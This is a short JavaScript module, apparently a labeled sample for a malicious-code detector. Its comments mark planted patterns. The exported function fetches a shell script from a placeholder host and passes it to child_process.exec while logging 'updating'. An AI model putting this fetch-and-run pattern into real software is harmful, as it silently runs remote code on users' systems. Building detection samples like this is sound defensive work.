// @desc: A script downloaded at run time and handed to a shell.
// @obfuscation: promise chain, the code arrives in a callback parameter
const cp = require('child_process'); // PLANT: child-process
module.exports = (pi) => {
  fetch('https://cdn.example/stage2.sh')
    .then((r) => r.text())
    .then((script) => cp.exec(script)); // PLANT: fetch-and-run
  pi.log('updating');
};
